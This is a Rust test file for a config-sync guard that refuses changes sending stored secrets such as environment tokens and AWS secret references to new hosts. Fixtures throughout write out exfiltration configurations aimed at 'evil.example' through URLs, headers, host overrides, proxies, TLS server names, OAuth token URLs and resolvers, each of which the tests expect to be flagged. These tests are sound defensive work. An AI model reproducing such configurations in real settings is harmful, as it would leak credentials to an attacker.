//! Where secrets go: what the guard refuses, and what is no new way.

use super::*;
use crate::config::{monitor_from_spec, respelled};
use crate::monitor::Origin;

fn spec(fields: serde_json::Value) -> Spec {
    let serde_json::Value::Object(fields) = fields else { unreachable!("an object") };
    Spec::new(fields)
}

fn meant(id: &MonitorId, spec: &Spec) -> Option<Monitor> {
    monitor_from_spec(id.clone(), spec, Origin::default()).ok()
}

fn wanted(id: &str, fields: serde_json::Value) -> Desired {
    let spec = spec(fields);
    let id = MonitorId::parse(id).expect("an id");
    let monitor = meant(&id, &spec).expect("a monitor");
    let place = Place { file: "monitors/a.yaml".into(), line: 3 };
    Desired { id, spec, monitor, place, moved_from: None, inherited: BTreeMap::new() }
}

fn item(id: &str, owner: &str, fields: serde_json::Value) -> Stored {
    let spec = spec(fields);
    Stored { fingerprint: Some(spec.fingerprint()), spec, ..stored(id, 1, Some(owner)) }
}

fn planned(desired: &[Desired], items: &[Stored]) -> Plan {
    let head = head(CatalogSettings::default());
    let reading =
        SpecReading { meaning: meant, spelling: respelled, secrets: |_| Vec::new(), implied: |_| None };
    let live = Live { items, head: Some(&head), unread: &[], reading };
    plan(OWNER, &CatalogSettings::default(), &shared(desired), live, &Scope::default())
}

/// What goes where, as a refusal says it.
fn said(desired: serde_json::Value, stored: serde_json::Value) -> Vec<String> {
    let plan = planned(&[wanted("a", desired)], &[item("a", OWNER, stored)]);
    let ways = plan.secret_senders().flat_map(|change| &change.secret_hosts);
    ways.map(ToString::to_string).collect()
}

// A hand in the table makes no host known, also where the files have its edit by now.
#[test]
fn a_host_from_an_edit_that_is_kept_is_new() {
    let fields =
        |host: &str| json!({"url": format!("https://{host}/"), "headers": {"x-token": "${env:TOKEN}"}});
    let (before, now) = (item("a", OWNER, fields("pay.example")), wanted("a", fields("evil.example")));
    let items = [Stored { spec: now.spec.clone(), ..before.clone() }];
    let mut plan = planned(&[now], &items);
    assert_eq!(plan.secret_senders().count(), 0, "what it was before is not known yet");
    let catalog = [(before.id, before.spec)].into();
    let past = super::super::Past { base: Some(&catalog), ..Default::default() };
    let head = head(CatalogSettings::default());
    let reading =
        SpecReading { meaning: meant, spelling: respelled, secrets: |_| Vec::new(), implied: |_| None };
    super::super::weigh_edits(
        &mut plan,
        past,
        Live { items: &items, head: Some(&head), unread: &[], reading },
    );
    let ways: Vec<_> = plan.secret_senders().flat_map(|change| &change.secret_hosts).collect();
    assert_eq!(
        ways.iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["${env:TOKEN} goes to evil.example"]
    );
}

// P10
#[test]
fn a_stored_secret_that_goes_to_a_new_host_is_refused_unless_it_is_allowed() {
    let token = json!({"x-token": "${env:TOKEN}"});
    let items = [item("pay", OWNER, json!({"url": "https://pay.example/", "headers": token}))];
    let desired = [
        wanted("pay", json!({"url": "https://pay.example/", "headers": token})),
        wanted("new", json!({"url": "https://evil.example/", "headers": {"y": "${env:TOKEN}"}})),
    ];
    let plan = planned(&desired, &items);
    let refused = refused(&plan);
    assert_eq!(
        refused.iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["1 monitor would send a stored secret to a new host; new: ${env:TOKEN} goes to evil.example"]
    );
    assert_eq!(refused[0].flag().as_deref(), Some("--allow-secret-host 1"));
    for (allowed, number) in [(0, 1), (1, 0), (2, 0)] {
        let overrides = Overrides { allow_secret_host: Some(allowed), ..Overrides::default() };
        assert_eq!(refusals(&plan, &overrides, &Succession::Onwards).len(), number, "{allowed}");
        assert_eq!(overrides.text(), Some(format!("--allow-secret-host {allowed}")));
    }
    // A first sync is not asked: it has sent nothing anywhere.
    let reading =
        SpecReading { meaning: meant, spelling: respelled, secrets: |_| Vec::new(), implied: |_| None };
    let live = Live { items: &items, head: None, unread: &[], reading };
    let first =
        super::plan("other", &CatalogSettings::default(), &shared(&desired[1..]), live, &Scope::default());
    assert_eq!(super::refused(&first), []);
}

#[test]
fn every_place_of_a_request_can_send_a_secret() {
    let stored = json!({"url": "https://a.example/", "headers": {"x": "${env:T}"}});
    for (desired, ways) in [
        (
            json!({"url": "https://b.example/", "headers": {"x": "${env:T}"}}),
            vec!["${env:T} goes to b.example"],
        ),
        (json!({"url": "https://b.example/?t=${env:T}"}), vec!["${env:T} goes to b.example"]),
        (
            json!({"url": "https://b.example/", "method": "POST", "body": "a${env:T}"}),
            vec!["${env:T} goes to b.example"],
        ),
        (
            json!({"url": "https://b.example/", "method": "POST", "json": {"a": ["${env:T}"]}}),
            vec!["${env:T} goes to b.example"],
        ),
        // In the name itself: a name server gets it.
        (json!({"url": "https://${env:T}.b.example/"}), vec!["${env:T} goes to ${env:T}.b.example"]),
        // A shared address serves the client that the header names.
        (
            json!({"url": "https://a.example/", "headers": {"x": "${env:T}", "host": "evil.example"}}),
            vec!["${env:T} goes to a.example as host evil.example"],
        ),
        (
            json!({"url": "http://a.example/", "headers": {"x": "${env:T}"}}),
            vec!["${env:T} goes to a.example over http"],
        ),
        // Switched off, it is a step on the way.
        (
            json!({"url": "https://b.example/", "headers": {"x": "${env:T}"}, "enabled": false}),
            vec!["${env:T} goes to b.example"],
        ),
        // The same host, however it is written, and another path or port of it.
        (json!({"url": "https://A.example./x?y=1", "headers": {"x": "${env:T}"}}), vec![]),
        (
            json!({"url": "https://a.example:8443/", "headers": {"x": "${env:T}", "host": "a.example"}}),
            vec![],
        ),
        (json!({"url": "https://a.example/", "headers": {"other": "b${env:T}"}}), vec![]),
        // A secret that is stored nowhere goes to a first host.
        (json!({"url": "https://b.example/", "headers": {"x": "${env:NEW}"}}), vec![]),
    ] {
        assert_eq!(said(desired.clone(), stored.clone()), ways, "{desired}");
    }
    let clear = json!({"url": "http://a.example/", "headers": {"x": "${env:T}"}});
    assert_eq!(
        said(json!({"url": "https://a.example/", "headers": {"x": "${env:T}"}}), clear),
        Vec::<String>::new()
    );
}

#[test]
fn one_value_is_known_by_all_its_references() {
    let to =
        |host: &str, reference: &str| json!({"url": format!("https://{host}/"), "headers": {"x": reference}});
    let arn = "${secretsmanager:arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf}";
    for (stored, desired, is_new) in [
        ("${ssm:/t}", "${ssm:/t:3}", true),
        ("${secretsmanager:db#password}", "${secretsmanager:db}", true),
        ("${secretsmanager:db}", "${secretsmanager:db#password}", true),
        ("${secretsmanager:db#password}", arn, true),
        ("${secretsmanager:db#password}", "${secretsmanager:db#user}", false),
        ("${secretsmanager:db}", "${secretsmanager:dbx}", false),
    ] {
        assert_eq!(
            !said(to("b.example", desired), to("a.example", stored)).is_empty(),
            is_new,
            "{stored} {desired}"
        );
    }
    // The whole of it is more than the key that went there.
    let whole = said(to("a.example", "${secretsmanager:db}"), to("a.example", "${secretsmanager:db#user}"));
    assert_eq!(whole.len(), 1, "{whole:?}");
}

#[test]
fn neither_another_owner_nor_a_removal_hides_where_a_secret_went() {
    let stored = json!({"url": "https://a.example/", "headers": {"x": "${env:T}"}});
    let evil = || wanted("new", json!({"url": "https://evil.example/", "headers": {"x": "${env:T}"}}));
    let foreign = item("theirs", "another/owner", stored.clone());
    assert_eq!(planned(&[evil()], &[foreign]).secret_senders().count(), 1);
    let gone =
        Stored { retired_at: "2026-11-01T00:00:00Z".parse().ok(), ..item("was", OWNER, stored.clone()) };
    assert_eq!(planned(&[evil()], &[gone]).secret_senders().count(), 1);
    // What stays on the machine and goes out now.
    let key = json!({"url": "https://evil.example/", "tls": {"client_certificate": "${ssm:/c}", "client_key": "${env:T}"}});
    assert_eq!(planned(&[evil()], &[item("mtls", OWNER, key)]).secret_senders().count(), 1);
}

#[test]
fn what_puts_back_an_edited_item_is_no_new_way() {
    let written = json!({"url": "https://a.example/", "headers": {"x": "${env:T}"}});
    let edited = spec(json!({"url": "https://evil.example/", "headers": {"x": "${env:T}"}}));
    let items = [Stored { spec: edited, ..item("a", OWNER, written.clone()) }];
    let plan = planned(&[wanted("a", written)], &items);
    assert_eq!((plan.changes.len(), plan.secret_senders().count()), (1, 0));
}

// P10: a token is fetched elsewhere.
#[test]
fn another_server_of_tokens_is_a_new_way() {
    let fields = |url: &str| {
        let grant = json!({"token_url": url, "client_id": "a", "client_secret": "${env:TOKEN}"});
        json!({"url": "https://pay.example/", "auth": {"oauth2": grant}})
    };
    let known = || fields("https://id.example/token");
    assert_eq!(said(fields("https://evil.example/token"), known()), ["${env:TOKEN} goes to evil.example"]);
    assert_eq!(said(fields("https://id.example/other"), known()), [] as [&str; 0]);
}

// P10: a token is as good as the secret that it was issued for.
#[test]
fn a_token_goes_to_no_new_host_either() {
    let fields = |url: &str| {
        let grant = json!({"token_url": "https://id.example/token", "client_id": "a", "client_secret": "${env:TOKEN}"});
        json!({"url": url, "auth": {"oauth2": grant}})
    };
    let known = || fields("https://pay.example/");
    assert_eq!(said(fields("https://evil.example/"), known()), ["${env:TOKEN} goes to evil.example"]);
    assert_eq!(said(fields("https://pay.example/other"), known()), [] as [&str; 0]);
}

// P10: without TLS it reads what goes through it.
#[test]
fn a_proxy_is_a_new_way_of_what_goes_through_it_in_clear() {
    let fields = |scheme: &str, proxy: &str| {
        let url = format!("{scheme}://pay.example/");
        json!({"url": url, "headers": {"x-token": "${env:TOKEN}"}, "proxy": format!("http://{proxy}")})
    };
    let known = || fields("http", "proxy.example:3128");
    assert_eq!(said(fields("http", "proxy.example:3128"), known()), [] as [&str; 0]);
    let words = ["${env:TOKEN} goes to pay.example through evil.example over http"];
    assert_eq!(said(fields("http", "evil.example:3128"), known()), words);
    assert_eq!(said(fields("https", "evil.example:3128"), fields("https", "p.example:1")), [] as [&str; 0]);
}

#[test]
fn the_secret_of_a_proxy_stays_at_the_proxy() {
    let fields =
        |url: &str, proxy: &str| json!({"url": url, "proxy": format!("http://me:${{env:TOKEN}}@{proxy}")});
    let known = || fields("https://pay.example/", "proxy.example:3128");
    assert_eq!(said(fields("https://shop.example/", "proxy.example:3128"), known()), [] as [&str; 0]);
    let other = said(fields("https://pay.example/", "evil.example:3128"), known());
    assert_eq!(other, ["${env:TOKEN} goes to me:${env:TOKEN}@evil.example:3128 over http"]);
}

// P10: any holder of a certificate would be taken for the host.
#[test]
fn another_server_name_is_a_new_way() {
    let fields = |name: serde_json::Value| {
        let tls = json!({"server_name": name});
        json!({"url": "https://pay.example/", "tls": tls, "headers": {"x-token": "${env:TOKEN}"}})
    };
    assert_eq!(
        said(fields(json!("evil.example")), fields(json!(null))),
        ["${env:TOKEN} goes to pay.example certified as evil.example"]
    );
    assert_eq!(said(fields(json!("pay.example")), fields(json!(null))), [] as [&str; 0]);
}

// P10: who answers for a name decides where it leads.
#[test]
fn another_resolver_is_a_new_way_unless_a_certificate_proves_the_host() {
    let fields = |url: &str, resolver: serde_json::Value, insecure: bool| {
        json!({
            "url": url, "resolver": resolver, "tls": {"insecure": insecure},
            "headers": {"x-token": "${env:TOKEN}"}
        })
    };
    let of = |url: &str, insecure: bool| {
        said(fields(url, json!("203.0.113.9"), insecure), fields(url, json!(null), insecure))
    };
    assert_eq!(
        of("http://pay.example/", false),
        ["${env:TOKEN} goes to pay.example as 203.0.113.9:53 resolves it over http"]
    );
    assert_eq!(of("https://pay.example/", false), [] as [&str; 0]);
    assert_eq!(
        of("https://pay.example/", true),
        ["${env:TOKEN} goes to pay.example as 203.0.113.9:53 resolves it"]
    );
}
